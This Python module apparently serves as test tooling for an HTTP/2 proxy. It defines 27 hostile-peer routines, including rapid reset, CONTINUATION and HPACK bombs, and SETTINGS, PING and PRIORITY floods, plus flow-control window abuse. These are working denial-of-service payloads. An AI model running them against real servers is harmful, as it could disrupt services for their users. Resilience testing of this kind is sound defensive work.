"""What a hostile peer of HTTP/2 does, as one whole talk: after its preface, on streams that nobody else uses."""

import contextlib
import struct

from h2_talk import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    ENABLE_PUSH,
    GOAWAY,
    HEADERS,
    INITIAL_WINDOW,
    PADDED,
    PING,
    PRIORITY,
    SETTINGS,
    block,
    frame,
    literal,
    request_fields,
    rst_stream,
    settings,
    window_update,
)

HEAD = block(request_fields("/hostile"))
HUNDRED = 100

# So many that the answers find no room between the two when nobody reads them.
PINGS = [frame(PING, payload=b"12345678") * HUNDRED * HUNDRED] * HUNDRED


def pushed(client, pieces):
    """Sends until all is out or the proxy has ended the connection; nothing is read meanwhile."""
    client.stream.socket.settimeout(3)
    with contextlib.suppress(OSError):
        for piece in pieces:
            client.stream.socket.sendall(piece)


def get(stream, end=True, fields=()):
    return frame(HEADERS, END_HEADERS | (END_STREAM if end else 0), stream, HEAD + block(fields))


def rapid_reset(client):
    pushed(client, [get(n) + rst_stream(n) for n in range(1, 4001, 2)])


def continuation_of_nothing(client):
    pushed(client, [frame(HEADERS, 0, 1, HEAD), *[frame(CONTINUATION, 0, 1)] * 10_000])


def continuation_flood(client):
    pushed(client, [frame(HEADERS, 0, 1, HEAD), *[frame(CONTINUATION, 0, 1, literal("x", "y"))] * 100_000])


def continuation_of_much(client):
    pushed(client, [frame(HEADERS, 0, 1, HEAD), *[frame(CONTINUATION, 0, 1, literal("x", "y" * 16_000))] * 2_000])


def settings_flood(client):
    pushed(client, [settings(INITIAL_WINDOW=65535) * HUNDRED * HUNDRED] * HUNDRED)


def settings_of_many(client):
    one = struct.pack(">HI", INITIAL_WINDOW, 65535) * 2000
    pushed(client, [frame(SETTINGS, payload=one)] * 2000)


def ping_flood(client):
    pushed(client, PINGS)


def pong_flood(client):
    pushed(client, [frame(PING, ACK, payload=b"12345678") * HUNDRED] * HUNDRED * 10)


def empty_data(client):
    pushed(client, [get(1, end=False), *[frame(DATA, 0, 1) * HUNDRED] * HUNDRED])


def padded_data(client):
    pushed(client, [get(1, end=False), *[frame(DATA, PADDED, 1, b"\x03\0\0\0") * HUNDRED] * HUNDRED])


def empty_heads(client):
    pushed(client, [frame(HEADERS, END_HEADERS, n) for n in range(1, 20_001, 2)])


def priority_flood(client):
    pushed(client, [frame(PRIORITY, 0, 1, b"\0\0\0\0\x10") * HUNDRED] * HUNDRED)


def priority_of_many(client):
    pushed(client, [frame(PRIORITY, 0, n, b"\0\0\0\0\x10") for n in range(1, 40_001, 2)])


def window_updates(client):
    pushed(client, [get(1, end=False), *[window_update(0, 1) * HUNDRED] * HUNDRED])


def unknown_frames(client):
    pushed(client, [frame(77, 0, 0, b"x" * 1000)] * 20_000)


def hpack_bomb(client):
    """One large entry, named a thousand times in each of many heads."""
    entry = b"\x40" + literal("x", "y" * 4000)[1:]
    pushed(
        client, [frame(HEADERS, END_HEADERS | END_STREAM, n, HEAD + entry + b"\xbe" * 12_000) for n in range(1, 400, 2)]
    )


def hpack_of_one_field(client):
    """A value of 100 MB begins."""
    start = b"\0\x01x\x7f\x81\xc2\xd7\x2f"
    pushed(client, [frame(HEADERS, 0, 1, HEAD + start), *[frame(CONTINUATION, 0, 1, b"y" * 16_384)] * 6_000])


def made_to_reset(client):
    """The proxy itself is made to reset each stream."""
    pushed(client, [get(n, end=False) + window_update(n, 0) for n in range(1, 8001, 2)])


def overflown_windows(client):
    pushed(client, [get(n, end=False) + window_update(n, 2**31 - 1) for n in range(1, 8001, 2)])


def data_of_the_closed(client):
    pushed(client, [get(1, end=True), *[frame(DATA, 0, 1, b"x") * HUNDRED] * HUNDRED])


def too_many_streams(client):
    pushed(client, [get(n, end=False) for n in range(1, 40_001, 2)])


def goaway_flood(client):
    pushed(client, [frame(GOAWAY, 0, 0, struct.pack(">II", 0, 0) + b"x" * 1000)] * 20_000)


def beyond_the_window(client):
    head = frame(HEADERS, END_HEADERS, 1, block(request_fields("/stalled", "POST")))
    pushed(client, [head, *[frame(DATA, 0, 1, b"x" * 16_384)] * 4_000])


def zero_windows(client):
    pushed(client, [settings(INITIAL_WINDOW=0), *[get(n) for n in range(1, 2 * HUNDRED, 2)]])


def never_reads(client):
    pushed(
        client,
        [
            settings(INITIAL_WINDOW=2**31 - 1),
            window_update(0, 2**31 - 1 - 65535),
            *[get(n) for n in range(1, 2 * HUNDRED, 2)],
        ],
    )


def unread_heads(client):
    fields = block(request_fields("/heads"))
    pushed(client, [frame(HEADERS, END_HEADERS | END_STREAM, n, fields) for n in range(1, 18_001, 2)])


def pushes_allowed_late(client):
    pushed(client, [settings(ENABLE_PUSH=n % 2) for n in range(10_000)])


ATTACKS = {
    f.__name__: f
    for f in (
        rapid_reset,
        continuation_of_nothing,
        continuation_flood,
        continuation_of_much,
        settings_flood,
        settings_of_many,
        ping_flood,
        pong_flood,
        empty_data,
        padded_data,
        empty_heads,
        priority_flood,
        priority_of_many,
        window_updates,
        unknown_frames,
        hpack_bomb,
        hpack_of_one_field,
        made_to_reset,
        overflown_windows,
        data_of_the_closed,
        too_many_streams,
        goaway_flood,
        beyond_the_window,
        zero_windows,
        never_reads,
        unread_heads,
        pushes_allowed_late,
    )
}
